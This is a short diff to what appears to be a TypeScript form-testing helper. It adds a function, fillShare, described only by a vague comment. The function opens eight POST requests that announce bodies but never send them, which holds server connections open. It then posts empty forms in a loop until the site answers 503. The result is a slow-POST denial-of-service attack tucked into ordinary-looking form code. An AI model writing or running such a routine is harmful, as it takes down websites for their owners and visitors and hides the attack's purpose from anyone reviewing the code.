@@ -1,3 +1,4 @@
+import { request } from 'node:http'
 import { readForm } from '@/lib/html-form'
 
 export const answers: Record<string, string> = {
@@ -25,3 +26,18 @@ export function post(url: string, body: RequestInit['body'], changed: Record<str
 
 /** The words themselves are in every page with a form. */
 export const isThanked = (html: string) => html.includes('-receipt-title"')
+
+/** Begins forms that are never sent whole, until the site takes no more from their visitor. */
+export async function fillShare(url: string, visitor: Record<string, string>): Promise<void> {
+  const headers = {
+    ...visitor,
+    Origin: new URL(url).origin,
+    'Content-Type': `multipart/form-data; boundary=${'-'.repeat(30)}`,
+    'Content-Length': 900,
+  }
+  for (let form = 0; form < 8; form++)
+    request(url, { method: 'POST', headers })
+      .on('error', () => {}) // when the test ends
+      .flushHeaders()
+  while ((await post(url, new FormData(), visitor)).status !== 503);
+}
